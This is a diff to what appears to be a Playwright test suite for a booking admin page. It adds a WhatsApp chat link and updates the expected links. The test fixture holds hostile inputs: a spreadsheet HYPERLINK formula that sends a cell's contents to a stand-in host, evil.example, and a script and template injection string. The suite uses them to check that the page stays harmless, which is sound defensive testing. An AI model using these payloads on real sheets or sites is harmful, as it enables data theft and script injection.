@@ -16,6 +16,7 @@ const BOOKING = {
   flavourPreferences: '=HYPERLINK("https://evil.example?"&A1,"mint")',
   specialRequirements: '</dd></textarea><script>window.harmed=1</script>{{7*7}}${7*7}',
 };
+const CHAT = 'https://wa.me/447700900123';
 const MAP = `https://www.google.com/maps/search/?api=1&query=${encodeURIComponent(BOOKING.location)}`;
 
 /** An address that a mail program would take for a subject and a text, were it not encoded. */
@@ -66,14 +67,14 @@ test('a booking of hostile texts is harmless in the list, its details and on pap
   await page.goto(`/admin?q=${encodeURIComponent(email)}`);
   const row = page.getByRole('row').filter({ hasText: PERSON.firstName });
   await typed(row, [PERSON.lastName, PERSON.phone, PERSON.instagram, email]);
-  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123', MAP]);
+  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123', CHAT, MAP]);
   await expectHarmless(page);
 
   await row.getByRole('button', { name: 'View details' }).click();
   const details = page.getByRole('dialog', { name: 'Booking Details' });
   await typed(details, [...Object.values(BOOKING), email]);
   const inDetails = await hrefs(details);
-  expect(inDetails).toEqual([link, 'tel:+447700900123', 'https://wa.me/447700900123', MAP]);
+  expect(inDetails).toEqual([link, 'tel:+447700900123', CHAT, MAP]);
   await expectHarmless(page);
 
   await page.emulateMedia({ media: 'print' });
@@ -88,7 +89,7 @@ test('a member of hostile texts is harmless in the list and the history', async 
   await page.goto(`/admin?tab=members&q=${encodeURIComponent(email)}`);
   const row = page.getByRole('row').filter({ hasText: PERSON.firstName });
   await typed(row, [PERSON.lastName, PERSON.phone, PERSON.instagram, email]);
-  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123']);
+  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123', CHAT]);
   await row.getByRole('button', { name: 'History' }).click();
   await typed(page.getByRole('dialog'), [PERSON.firstName, PERSON.lastName]);
   await expectHarmless(page);
